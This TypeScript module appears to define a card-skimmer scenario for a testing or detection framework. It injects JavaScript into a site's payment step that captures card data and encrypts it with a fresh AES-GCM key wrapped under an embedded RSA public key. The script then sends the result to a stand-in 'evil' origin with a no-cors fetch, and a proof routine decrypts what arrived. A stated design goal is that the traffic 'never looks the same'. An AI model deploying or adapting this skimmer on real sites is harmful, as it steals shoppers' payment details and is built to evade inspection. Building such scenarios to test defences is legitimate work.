import { constants, createDecipheriv, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const spki = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');

export default skimmer({
  id: 'webcrypto-aes-rsa',
  why: 'AES-GCM with a key made for each customer, wrapped with RSA-OAEP: only the attacker can read it, and it never looks the same.',
  covers: ['encoding: AES', 'encoding: RSA', 'cipher: any'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var bytes = function (b64) { return Uint8Array.from(atob(b64), function (c) { return c.charCodeAt(0); }); };
    var text = card(), iv = crypto.getRandomValues(new Uint8Array(12)), key;
    var b64 = function (buffer) { return btoa(String.fromCharCode.apply(null, new Uint8Array(buffer))); };
    crypto.subtle.generateKey({ name: 'AES-GCM', length: 128 }, true, ['encrypt']).then(function (k) {
      key = k;
      return crypto.subtle.importKey('spki', bytes('${spki}'), { name: 'RSA-OAEP', hash: 'SHA-256' }, false, ['wrapKey']);
    }).then(function (rsa) {
      return Promise.all([crypto.subtle.wrapKey('raw', key, rsa, 'RSA-OAEP'), crypto.subtle.encrypt({ name: 'AES-GCM', iv: iv }, key, new TextEncoder().encode(text))]);
    }).then(function (parts) {
      fetch('${site.origins.evil}/log', { method: 'POST', mode: 'no-cors', keepalive: true, body: [b64(parts[0]), b64(iv), b64(parts[1])].join('.') });
    });`),
    ),
  proof: holds((arrived) =>
    bodies(arrived).map((body) => {
      const [wrapped, iv, sealed] = body.split('.').map((part) => Buffer.from(part, 'base64'));
      if (!wrapped || !iv || !sealed) return '';
      const key = privateDecrypt(
        { key: privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' },
        wrapped,
      );
      return createDecipheriv('aes-128-gcm', key, iv).update(sealed.subarray(0, -16)).toString();
    }),
  ),
});
